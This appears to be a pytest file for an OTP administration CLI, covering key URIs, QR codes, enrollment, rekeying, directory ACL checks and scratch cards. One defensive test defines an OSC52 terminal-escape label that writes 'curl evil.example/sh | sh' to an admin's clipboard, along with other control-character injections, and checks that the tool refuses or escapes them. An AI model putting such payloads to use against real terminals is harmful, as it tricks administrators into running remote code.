"""The CLI's pure parts: key URIs and QR codes, listings, state changes, rekey planning,
the doctor's judging (subschema, AD security descriptors), the scratch card."""

from __future__ import annotations

import base64
import io
import struct
import subprocess
import uuid
from dataclasses import replace
from pathlib import Path

import pyotp
import pytest

from otpgate.admin import doctor, doctor_acl
from otpgate.admin.enrollment import enroll_change, new_oath_token, otpauth_uri, replaced_tokens
from otpgate.admin.listing import list_text, show_text, summarise
from otpgate.admin.manage import (
    find_token,
    reset_change,
    resync_change,
    revoke_change,
    scratch_change,
    unlock_change,
)
from otpgate.admin.rekey import looks_like_otpgate, rewrite_all, stale_attributes
from otpgate.admin.render import Progress, qr_terminal, scratch_card_html, write_qr
from otpgate.cli import main
from otpgate.codec import AttributeSpec, Format, Syntax
from otpgate.config import MappedAttribute, OtpConfig, parse_config
from otpgate.directory.records import OtpState, UserEntry
from otpgate.directory.state import StateMapper
from otpgate.errors import NoSuchToken, PolicyError
from otpgate.otp.oath import Algorithm, hotp
from otpgate.otp.scratch import generate_scratch_list, verify_scratch
from otpgate.tokens import Secret, Token, TokenType, TokenUse, UsedState
from otpgate.vault import Keyring

OTP = OtpConfig()


def state_of(*pairs: tuple[Token, Secret], used: UsedState | None = None) -> OtpState:
    return OtpState(
        tokens=tuple(t for t, _ in pairs),
        secrets={t.id: s for t, s in pairs},
        used=used or UsedState(),
    )


# -- key URIs and QR codes -------------------------------------------------------------


def test_otpauth_uri_round_trips_through_pyotp():
    token, secret = new_oath_token(
        OTP, TokenType.TOTP, digits=8, algorithm=Algorithm.SHA256, period=60, now=0
    )
    uri = otpauth_uri(token, secret, "alice@example.org", "Acme VPN")
    assert uri.startswith("otpauth://totp/Acme%20VPN:alice@example.org?")
    parsed = pyotp.parse_uri(uri)
    assert isinstance(parsed, pyotp.TOTP)
    assert (parsed.digits, parsed.interval, parsed.issuer) == (8, 60, "Acme VPN")
    assert parsed.name == "alice@example.org"
    assert base64.b32decode(parsed.secret + "=" * (-len(parsed.secret) % 8)) == secret.key
    assert len(secret.key) == 32  # as long as SHA-256's output
    assert parsed.at(1_000_000) == hotp(secret.key, 1_000_000 // 60, 8, Algorithm.SHA256)

    htoken, hsecret = new_oath_token(OTP, TokenType.HOTP, key=b"k" * 20)
    huri = otpauth_uri(htoken, hsecret, "bob", "otpgate", counter=7)
    assert "counter=7" in huri and "period" not in huri
    assert pyotp.parse_uri(huri).at(0) == hotp(b"k" * 20, 7)  # pyotp: at(n) is initial_count + n


def test_new_oath_token_checks_its_parameters():
    with pytest.raises(ValueError, match="digits"):
        new_oath_token(OTP, TokenType.TOTP, digits=9)
    with pytest.raises(ValueError, match="period"):
        new_oath_token(OTP, TokenType.TOTP, period=0)
    with pytest.raises(ValueError, match="too short"):
        new_oath_token(OTP, TokenType.TOTP, key=b"short")
    with pytest.raises(ValueError, match="not an OATH"):
        new_oath_token(OTP, TokenType.YUBICO)


def test_qr_png_scans_back_to_the_same_uri(tmp_path):
    token, secret = new_oath_token(OTP, TokenType.TOTP, now=0)
    uri = otpauth_uri(token, secret, "carol & co", "Acme: VPN")
    png = tmp_path / "qr.png"
    write_qr(uri, png)
    assert png.stat().st_mode & 0o777 == 0o600
    out = subprocess.run(
        ["zbarimg", "--quiet", "--raw", str(png)], capture_output=True, text=True, check=True
    ).stdout.strip()
    assert out == uri
    svg = tmp_path / "qr.svg"
    write_qr(uri, svg)
    assert svg.read_text().lstrip().startswith("<?xml") and "<svg" in svg.read_text()
    with pytest.raises(FileExistsError):
        write_qr(uri, svg)
    with pytest.raises(ValueError, match=r"png or \.svg"):
        write_qr(uri, tmp_path / "qr.jpg")
    assert "█" in qr_terminal(uri) or "▀" in qr_terminal(uri)


# -- enrollment policy and help-desk changes -------------------------------------------------


def test_enroll_replaces_the_software_token_and_counts_devices():
    first = new_oath_token(OTP, TokenType.TOTP)
    state = state_of(first, used=UsedState({first[0].id: TokenUse(5)}))
    second = new_oath_token(OTP, TokenType.HOTP)
    change = enroll_change(state, *second, max_tokens=1)
    assert [t.id for t in change.tokens or ()] == [second[0].id]
    assert change.used is not None and first[0].id not in change.used.tokens
    assert replaced_tokens(state, change) == (first[0],)
    # Keeping both needs room for two devices.
    with pytest.raises(PolicyError, match="maximum is 1"):
        enroll_change(state, *second, max_tokens=1, replace_software=False)
    both = enroll_change(state, *second, max_tokens=2, replace_software=False, last=9)
    assert both.used is not None and both.used.use_of(second[0].id).last == 9
    # A scratch list is not a device.
    _codes, scratch = generate_scratch_list(3, 6)
    with_scratch = OtpState(
        tokens=(*(both.tokens or ()),), secrets=both.secrets or {}, used=both.used
    )
    listed = scratch_change(with_scratch, scratch, now=5)
    assert listed.tokens is not None and len(listed.tokens) == 3


def test_find_revoke_reset_unlock():
    a = new_oath_token(OTP, TokenType.TOTP, label="phone")
    b_token = Token("bbbb0001", TokenType.HOTP, 0, label="fob", serial="SN-9")
    b = (b_token, Secret(b"x" * 20))
    state = state_of(a, b, used=UsedState({"bbbb0001": TokenUse(3)}, failures=4, locked_until=99))
    assert find_token(state, "sn-9") is b_token
    assert find_token(state, "PHONE").id == a[0].id
    assert find_token(state, None, (TokenType.HOTP,)) is b_token
    with pytest.raises(NoSuchToken, match="name one of"):
        find_token(state, None)
    with pytest.raises(NoSuchToken, match="no token 'nope'"):
        find_token(state, "nope")
    change = revoke_change(state, "fob")
    assert change.result == (b_token,)
    assert [t.id for t in change.tokens or ()] == [a[0].id]
    assert change.secrets is not None and set(change.secrets) == {a[0].id}
    assert change.used is not None and "bbbb0001" not in change.used.tokens
    reset = reset_change(state)
    assert reset.tokens == () and reset.secrets == {}
    assert reset.used is not None and reset.used.locked_until == 99  # lockout is unlock's job
    unlocked = unlock_change(state)
    assert unlocked.used is not None and (unlocked.used.failures, unlocked.used.locked_until) == (
        0,
        0,
    )


def test_resync_finds_three_consecutive_codes():
    key = b"resync-key-0123456789"
    token = Token("h1", TokenType.HOTP, 0, digits=6)
    state = state_of((token, Secret(key)), used=UsedState({"h1": TokenUse(10)}))
    codes = (hotp(key, 5000), hotp(key, 5001), hotp(key, 5002))
    change = resync_change(state, None, codes, now=123)
    assert change.result == (token, 5002)
    assert change.used is not None and change.used.use_of("h1") == TokenUse(5002, 0, 123)
    with pytest.raises(PolicyError, match="not consecutive"):
        resync_change(state, None, (codes[0], codes[2], codes[1]), now=1)
    totp_only = state_of(new_oath_token(OTP, TokenType.TOTP))
    with pytest.raises(NoSuchToken, match="no hotp token"):
        resync_change(totp_only, None, codes, now=1)


def test_scratch_list_replaces_the_previous_one():
    _codes1, list1 = generate_scratch_list(2, 6)
    state = OtpState()
    first = scratch_change(state, list1, now=1)
    state = OtpState(
        tokens=first.tokens or (),
        used=UsedState({first.result.id: TokenUse(-1, scratch_used=frozenset({0}))}),
    )
    codes2, list2 = generate_scratch_list(2, 6)
    second = scratch_change(state, list2, now=2)
    assert [t.id for t in second.tokens or ()] == [second.result.id]
    assert second.used is not None and first.result.id not in second.used.tokens
    assert verify_scratch(list2, codes2[0], frozenset()) == 0


# -- listing ------------------------------------------------------------------------


def test_listing_never_shows_secrets():
    key = b"topsecret-key-material"
    token = Token("t1", TokenType.TOTP, 0, label="phone")
    _codes, scratch = generate_scratch_list(4, 8)
    stoken = Token("s1", TokenType.SCRATCH, 0, label="paper", scratch=scratch)
    state = state_of(
        (token, Secret(key)),
        (stoken, Secret(b"")),
        used=UsedState(
            {
                "t1": TokenUse(100, -2, 1_700_000_000),
                "s1": TokenUse(-1, scratch_used=frozenset({1})),
            },
            failures=0,
            locked_until=2_000_000_000,
        ),
    )
    summary = summarise("alice", "uid=alice,dc=x", state)
    text = show_text(summary, now=1_800_000_000)
    assert "locked until 2033-05-18" in text
    assert "2023-11-14 22:13:20 UTC" in text and "-2" in text
    assert key.hex() not in text and base64.b32encode(key).decode()[:10] not in text
    rows = {r["id"]: r for r in summary.to_dict(1_800_000_000)["tokens"]}
    assert rows["s1"]["scratch_remaining"] == 3
    assert rows["t1"]["last_counter"] == 100
    assert "alice" in list_text([summary], now=0)


# -- rekey planning ----------------------------------------------------------------------


def _config(**formats: str):
    return parse_config(
        {
            "directory": {
                "profile": "openldap",
                "urls": ["ldap://127.0.0.1:1"],
                "base_dn": "dc=x",
                "bind_dn": "cn=s,dc=x",
                "bind_password": "pw",
                "formats": formats,
            },
            "vault": {"keyring": "k.json"},
        },
        Path("/"),
    )


def test_rekey_finds_values_under_old_keys_and_formats():
    keys = {"k1": b"1" * 32, "k2": b"2" * 32}
    old, new = Keyring(keys, "k1"), Keyring(keys, "k2")
    config = _config().directory
    mapper_old, mapper_new = StateMapper(config, old), StateMapper(config, new)
    token, secret = new_oath_token(OTP, TokenType.TOTP)
    user = UserEntry("uid=a,dc=x", b"uuid-a", used=(b'{"u":{},"v":1}',))
    state = mapper_old.decode(user)
    change = enroll_change(state, token, secret, 5)
    planned = mapper_old.plan(user, state, change)
    written = UserEntry(
        user.dn,
        user.entry_id,
        seed=next(m.values[0] for m in planned if m.attribute == "postalAddress" and m.op == 0),
        tokens=next(m.values for m in planned if m.attribute == "registeredAddress" and m.op == 0),
        used=next(m.values for m in planned if m.attribute == "homePostalAddress" and m.op == 0),
    )
    assert stale_attributes(mapper_old, written) == []
    assert stale_attributes(mapper_new, written) == [
        "postalAddress",
        "registeredAddress",
        "homePostalAddress",
    ]
    # Plain INITIAL_USED where encryption is configured: rewritten too.
    assert stale_attributes(mapper_new, user) == ["homePostalAddress"]
    # rewrite_all writes every part; the new mapper encodes under k2.
    again = mapper_new.plan(
        written, mapper_new.decode(written), rewrite_all(mapper_new.decode(written))
    )
    adds = [m for m in again if m.op == 0]
    assert {m.attribute for m in adds} == {
        "postalAddress",
        "registeredAddress",
        "homePostalAddress",
    }
    assert all(v.startswith(b"v1.k2.") for m in adds for v in m.values)
    assert looks_like_otpgate(b"v1.k1.abc") and looks_like_otpgate(b"\xa1\x02k1")
    assert looks_like_otpgate(b'{"u":{}}') and not looks_like_otpgate(b"12 Main St$Springfield")


# -- doctor ------------------------------------------------------------------------------


def test_subschema_parsing_follows_sup():
    schema = doctor.Subschema(
        [
            "( 2.5.4.16 NAME 'postalAddress' EQUALITY caseIgnoreListMatch "
            "SYNTAX 1.3.6.1.4.1.1466.115.121.1.41 )",
            "( 2.5.4.26 NAME 'registeredAddress' SUP postalAddress "
            "SYNTAX 1.3.6.1.4.1.1466.115.121.1.41 )",
            "( 1.3.6.1.4.1.1 NAME ( 'otpgateUsed' 'otpUsed' ) SUP otpgateBase SINGLE-VALUE )",
            "( 1.3.6.1.4.1.2 NAME 'otpgateBase' SYNTAX '1.3.6.1.4.1.1466.115.121.1.40'{4096} )",
        ]
    )
    used = schema.get("OTPUSED")
    assert used is not None and used.syntax == "1.3.6.1.4.1.1466.115.121.1.40"
    assert used.length == 4096 and used.single_value
    assert schema.get("postaladdress").syntax.endswith(".41")
    assert schema.get("nope") is None


def test_check_attribute_verdicts():
    mapped = MappedAttribute(AttributeSpec("registeredAddress", Syntax.OCTET, 4096), Format.BINARY)
    ok = doctor.AttributeType(
        "1", ("registeredAddress",), None, "1.3.6.1.4.1.1466.115.121.1.40", None, False
    )
    ad = doctor.AdAttributeSchema("2.5.5.10", False, 4096, None, None)
    assert {c.status for c in doctor.check_attribute("tokens", mapped, ok, ad)} == {
        doctor.Status.OK
    }
    single = doctor.AdAttributeSchema("2.5.5.10", True, 1024, None, None)
    statuses = [c.status for c in doctor.check_attribute("tokens", mapped, ok, single)]
    assert statuses.count(doctor.Status.FAIL) == 2  # single-valued, and 4096 > 1024
    wrong = doctor.AttributeType("1", ("x",), None, "1.3.6.1.4.1.1466.115.121.1.15", None, False)
    assert doctor.check_attribute("tokens", mapped, wrong)[0].status is doctor.Status.FAIL
    assert doctor.check_attribute("tokens", mapped, None)[0].status is doctor.Status.FAIL


def _sid(text: str) -> bytes:
    parts = text.split("-")
    subs = [int(p) for p in parts[3:]]
    return (
        bytes([1, len(subs)])
        + int(parts[2]).to_bytes(6, "big")
        + struct.pack(f"<{len(subs)}I", *subs)
    )


def _ace(
    kind: int,
    flags: int,
    mask: int,
    sid: str,
    obj: uuid.UUID | None = None,
    inherited: uuid.UUID | None = None,
) -> bytes:
    body = struct.pack("<I", mask)
    if kind in (5, 6):
        present = (1 if obj else 0) | (2 if inherited else 0)
        body += struct.pack("<I", present)
        body += obj.bytes_le if obj else b""
        body += inherited.bytes_le if inherited else b""
    body += _sid(sid)
    return struct.pack("<BBH", kind, flags, 4 + len(body)) + body


def _descriptor(*aces: bytes) -> bytes:
    acl = struct.pack("<BBHHH", 4, 0, 8 + sum(map(len, aces)), len(aces), 0) + b"".join(aces)
    header = struct.pack("<BBHIIII", 1, 0, 0x8004, 0, 0, 0, 20)
    return header + acl


POSTAL = uuid.UUID("bf9679fc-0de6-11d0-a285-00aa003049e2")
PERSONAL = uuid.UUID("77b5b886-944a-11d1-aebd-0000f80367c1")
SERVICE = "S-1-5-21-1-2-3-1105"


def test_ad_dacl_default_exposes_and_fixed_does_not():
    schema = doctor.AdAttributeSchema("2.5.5.12", False, 4096, POSTAL, PERSONAL)
    default = _descriptor(
        _ace(5, 0, 0x10, "S-1-5-11", PERSONAL),  # (OA;;RP;Personal-Information;;AU)
        _ace(5, 0, 0x30, "S-1-5-10", PERSONAL),  # (OA;;RPWP;Personal-Information;;PS)
        _ace(0, 0x10, 0xF01FF, "S-1-5-21-1-2-3-512"),  # Domain Admins, inherited
    )
    aces = doctor_acl.parse_dacl(default)
    assert [a.sid for a in aces] == ["S-1-5-11", "S-1-5-10", "S-1-5-21-1-2-3-512"]
    assert aces[0].object_type == PERSONAL
    checks = doctor_acl.ad_acl_checks(
        aces, [("postalAddress", schema)], "CN=a", "S-1-5-21-1-2-3", SERVICE
    )
    text = doctor.render(checks)
    assert "readable by all Authenticated Users" in text and "SELF" in text
    assert doctor.failed(checks)

    fixed = _descriptor(
        _ace(6, 0, 0x30, "S-1-5-10", POSTAL),  # (OD;;RPWP;postalAddress;;PS)
        _ace(5, 0, 0x30, SERVICE, POSTAL),  # (OA;;RPWP;postalAddress;;<service>)
        _ace(5, 0, 0x30, "S-1-5-10", PERSONAL),
        _ace(6, 0x12, 0x30, "S-1-5-11", POSTAL, doctor_acl.USER_CLASS),  # inherited deny
        _ace(5, 0x12, 0x10, "S-1-5-11", PERSONAL, doctor_acl.USER_CLASS),
    )
    checks = doctor_acl.ad_acl_checks(
        doctor_acl.parse_dacl(fixed), [("postalAddress", schema)], "CN=a", "S-1-5-21-1-2-3", SERVICE
    )
    assert not doctor.failed(checks), doctor.render(checks)
    assert all(c.status is doctor.Status.OK for c in checks)


def test_write_server_and_probe_verdicts():
    gc = doctor.check_write_server("ldap://dc:3268", True, 3268, [], "ad", 1)
    assert gc[0].status is doctor.Status.FAIL
    rodc = doctor.check_write_server("ldaps://dc", True, 636, [doctor.RODC_CAPABILITY], "ad", 1)
    assert rodc[0].status is doctor.Status.FAIL
    unpinned = doctor.check_write_server("ldaps://dc1", False, 636, [], "ad", 2)
    assert unpinned[0].status is doctor.Status.WARN and "discover" in unpinned[0].fix
    assert doctor.check_write_probe("used", "x", "u", 10, "").status is doctor.Status.FAIL
    assert doctor.check_write_probe("used", "x", "u", 0, "").status is doctor.Status.OK
    user = doctor.user_access_checks("wWWHomePage", "bob", True, 0, "ad")
    assert [c.status for c in user] == [doctor.Status.FAIL, doctor.Status.FAIL]
    assert "apply-acl.sh" in user[0].fix
    assert {c.status for c in doctor.user_access_checks("x", "bob", False, 50, "openldap")} == {
        doctor.Status.OK
    }


# -- rendering ---------------------------------------------------------------------------


def test_scratch_card_is_escaped_html():
    html = scratch_card_html("<bob>", "Acme & Co", ["12345678", "87654321"], created=0)
    assert "&lt;bob&gt;" in html and "Acme &amp; Co" in html and "<bob>" not in html
    assert "1234 5678" in html and "8765 4321" in html and "1970-01-01" in html


def test_progress_bar():
    out = io.StringIO()
    bar = Progress(4, "import", out, enabled=True)
    for _ in range(4):
        bar.advance()
    bar.finish()
    assert "import [##############################] 4/4" in out.getvalue()
    quiet = io.StringIO()
    Progress(4, "x", quiet).advance()
    assert quiet.getvalue() == ""


def test_directory_commands_fail_in_one_line_without_a_config(tmp_path, capsys):
    assert main(["show", "alice", "--config", str(tmp_path / "none.toml")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("otpgate show: cannot read config")
    assert main(["enroll", "alice", "--config", str(tmp_path / "x.toml"), "--secret", "!!"]) == 2
    assert "Base32" in capsys.readouterr().err
    assert main(["scratch", "a", "--config", "x", "--card", str(tmp_path / "c.pdf")]) == 2
    assert "HTML" in capsys.readouterr().err


# -- attacks on the admin's tools ----------------------------------------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"
"""Sets the admin's clipboard to `curl evil.example/sh | sh` on many terminals."""


@pytest.mark.parametrize("bad", [OSC52, "a\x1b[2J", "tab\there", "del\x7f", "c1\x9b31m", "\u202e"])
def test_labels_with_control_characters_are_refused(bad):
    with pytest.raises(ValueError, match="label: character U\\+"):
        Token("t1", TokenType.TOTP, 0, label=bad)
    with pytest.raises(ValueError, match="label"):
        new_oath_token(OTP, TokenType.TOTP, label=bad)
    token = Token("t1", TokenType.TOTP, 0, label="work phone é")
    with pytest.raises(ValueError, match="label"):
        replace(token, label=bad)  # what `otpgate rename` does


def test_imported_labels_with_control_characters_are_row_problems():
    from otpgate.importers.pskc import parse_pskc

    # XML 1.0 cannot carry C0 characters (ESC, BEL); C1 ones (CSI U+009B) it can.
    label = "\u009b2J\u009b31mfob"
    text = (
        '<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc"><KeyPackage>'
        '<Key Id="sn1" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:hotp">'
        f"<FriendlyName>{label}</FriendlyName>"
        f"<Data><Secret><PlainValue>{base64.b64encode(b'k' * 20).decode()}</PlainValue>"
        "</Secret></Data></Key></KeyPackage></KeyContainer>"
    )
    result = parse_pskc(text.encode())
    assert result.tokens == () and "label: character U+009B" in result.problems[0].message


def test_stored_control_characters_are_escaped_on_output():
    # A label stored before labels were checked: decoding cleans it (refusing it would make
    # the user's whole state undecodable: no login, no `otpgate reset`).
    old = Token.from_dict({"id": "t1", "type": "totp", "created": 0, "label": OSC52})
    assert "\x1b" not in old.label and old.label.startswith("\\x1b]52;")
    # Serials, DNs and user names are not labels: output escapes every cell.
    sneaky = Token("t2", TokenType.HOTP, 0, serial="SN\x1b[8m", label="ok")
    state = state_of((old, Secret(b"a" * 20)), (sneaky, Secret(b"b" * 20)))
    summary = summarise("eve\x1b]0;x\x07", "uid=eve\x9b2J,dc=x", state)
    shown, listed = show_text(summary, 0), list_text([summary], 0)
    for text in (shown, listed):
        assert not any(c in text for c in "\x1b\x07\x9b"), repr(text)
        assert "SN\\x1b[8m" in text and "eve\\x1b]0;x\\x07" in text
    assert "uid=eve\\x9b2J" in shown
    printed = summary.to_dict(0)  # JSON output: json.dumps escapes control characters
    assert "\x1b" in printed["tokens"][1]["serial"]


def test_use_state_with_an_out_of_range_counter_does_not_decode():
    from otpgate.otp.oath import MAX_COUNTER

    assert TokenUse.from_dict({"l": MAX_COUNTER}).last == MAX_COUNTER
    assert TokenUse.from_dict({"l": -1}).last == -1
    for bad in (2**64, MAX_COUNTER + 1, -2):
        with pytest.raises(ValueError, match=r"used.token.l: .* out of range"):
            TokenUse.from_dict({"l": bad})
        with pytest.raises(ValueError, match="out of range"):
            UsedState.from_dict({"v": 1, "u": {"t1": {"l": bad}}})


def test_enroll_change_refuses_a_key_enrolled_twice():
    key = b"same-key-for-two-tokens"
    first = new_oath_token(OTP, TokenType.TOTP, key=key)
    state = state_of(first)
    again = new_oath_token(OTP, TokenType.TOTP, key=key)
    message = f"this key is already enrolled as token {first[0].id}"
    with pytest.raises(PolicyError, match=message):
        enroll_change(state, *again, max_tokens=5, replace_software=False)  # --keep-existing
    with pytest.raises(PolicyError, match=message):
        enroll_change(state, *again, max_tokens=5)  # replacing would restart its counter
    as_hotp = new_oath_token(OTP, TokenType.HOTP, key=key)
    with pytest.raises(PolicyError, match=message):
        enroll_change(state, *as_hotp, max_tokens=5, replace_software=False)
    # An inventory token with the same key under another serial (assign).
    hw = Token("hw000001", TokenType.HOTP, 0, serial="SN-2")
    with pytest.raises(PolicyError, match=message):
        enroll_change(state, hw, Secret(key), 5, False, last=7)
    other = new_oath_token(OTP, TokenType.TOTP, key=b"another-key-0123456789")
    assert enroll_change(state, *other, max_tokens=5, replace_software=False).tokens


def test_enroll_change_refuses_a_yubikey_enrolled_twice():
    aes, private = b"A" * 16, b"P" * 6
    yk = Token("yk000001", TokenType.YUBICO, 0, serial="yk1", public_id="vvgutbiedkvi")
    state = state_of((yk, Secret(aes, private)))
    same_key = Token("yk000002", TokenType.YUBICO, 0, serial="yk2", public_id="cccccccccccb")
    with pytest.raises(PolicyError, match="already enrolled as token yk000001 \\(serial yk1\\)"):
        enroll_change(state, same_key, Secret(aes, b"Q" * 6), 5, False)
    same_device = Token("yk000003", TokenType.YUBICO, 0, serial="yk3", public_id="VVGUTBIEDKVI")
    with pytest.raises(PolicyError, match="yk000001"):
        enroll_change(state, same_device, Secret(b"B" * 16, private), 5, False)
    new = Token("yk000004", TokenType.YUBICO, 0, serial="yk4", public_id="vvgutbiedkvj")
    assert enroll_change(state, new, Secret(b"B" * 16, private), 5, False).tokens


def test_enroll_change_bounds_the_imported_counter():
    from otpgate.otp.oath import MAX_COUNTER

    hw = Token("hw000001", TokenType.HOTP, 0, serial="SN-1")
    change = enroll_change(OtpState(), hw, Secret(b"k" * 20), 5, False, last=MAX_COUNTER)
    assert change.used is not None and change.used.use_of("hw000001").last == MAX_COUNTER
    with pytest.raises(ValueError, match="out of range"):
        enroll_change(OtpState(), hw, Secret(b"k" * 20), 5, False, last=2**64 - 1)


def test_retire_refuses_when_the_keyring_changed_during_the_rekey(tmp_path):
    """`rekey --retire` keeps the key the rekey wrote with, and refuses when the keyring
    changed meanwhile: a keygen during a long rekey makes a new key current, and keeping
    only that one would delete the key every value had just been rewritten under."""
    from otpgate.admin.rekey import RetireRefused, retire_keys
    from otpgate.vault import keygen, read_raw_keys

    path = tmp_path / "keyring.json"
    keygen(path, "old")
    keygen(path, "target")
    run_keys, target = read_raw_keys(path)  # what the rekey run loaded and encrypted with
    assert target == "target"

    keygen(path, "during")  # someone rotates again while the rekey runs
    with pytest.raises(RetireRefused, match=r"current key .* is now 'during'"):
        retire_keys(path, target, run_keys)
    assert set(read_raw_keys(path)[0]) == {"old", "target", "during"}  # nothing deleted

    path2 = tmp_path / "keyring2.json"
    keygen(path2, "old")
    keygen(path2, "target")
    run_keys2, _ = read_raw_keys(path2)
    keygen(path2, "staged", make_current=False)  # staged for the next rotation
    with pytest.raises(RetireRefused, match="changed during the rekey"):
        retire_keys(path2, "target", run_keys2)
    assert set(read_raw_keys(path2)[0]) == {"old", "target", "staged"}

    # Unchanged: exactly the rekey's key is kept, with its bytes.
    assert retire_keys(path2, "target", read_raw_keys(path2)[0]) == ["old", "staged"]
    keys, current = read_raw_keys(path2)
    assert current == "target" and keys == {"target": run_keys2["target"]}


def test_private_files_are_exclusive_0600_and_never_follow_symlinks(tmp_path):
    import os

    from otpgate.admin.render import PrivateFile

    old_umask = os.umask(0)
    try:
        made = PrivateFile(tmp_path / "card.html")
        made.write(b"secret")
    finally:
        os.umask(old_umask)
    assert (tmp_path / "card.html").stat().st_mode & 0o777 == 0o600
    with pytest.raises(FileExistsError):
        PrivateFile(tmp_path / "card.html")
    target = tmp_path / "target"
    (tmp_path / "link.png").symlink_to(target)  # dangling: would create `target`
    with pytest.raises(FileExistsError):
        PrivateFile(tmp_path / "link.png")
    assert not target.exists()
    empty = PrivateFile(tmp_path / "qr.png")
    empty.discard()
    assert not (tmp_path / "qr.png").exists()
